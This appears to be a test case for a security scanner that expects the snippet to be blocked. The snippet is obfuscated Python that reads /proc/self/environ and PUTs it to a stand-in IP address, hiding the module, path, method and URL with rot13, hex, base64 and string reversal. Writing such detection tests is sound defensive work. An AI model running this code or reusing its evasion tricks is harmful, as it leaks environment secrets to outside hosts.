# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/proc_environ.py technique: encode+getattr
requests = __import__(__import__('codecs').decode('erdhrfgf', 'rot13'))
environ = open(getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('2f70726f632f73656c662f656e7669726f6e').decode(), ''.join(map(chr, [114, 98]))).read().replace(b'\x00', b'\n')
getattr(requests, __import__('base64').b64decode('cHV0').decode())('vne/9.311.0.302//:sptth'[::-1], data=environ, timeout=5)
